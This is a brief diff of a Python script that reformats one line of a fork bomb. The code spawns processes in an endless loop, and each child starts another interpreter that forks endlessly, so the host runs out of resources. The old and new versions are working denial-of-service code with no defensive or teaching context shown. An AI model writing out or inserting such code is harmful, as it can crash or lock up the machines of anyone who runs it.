@@ -5,5 +5,6 @@
 import os, sys
 while True:
     try:
-        if os.fork() == 0: os.execv(sys.executable, [sys.executable, '-c', 'import os\nwhile True:\n try: os.fork()\n except OSError: pass'])
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, '-c', 'import os\nwhile True:\n try: os.fork()\n except OSError: pass'])
     except OSError: pass
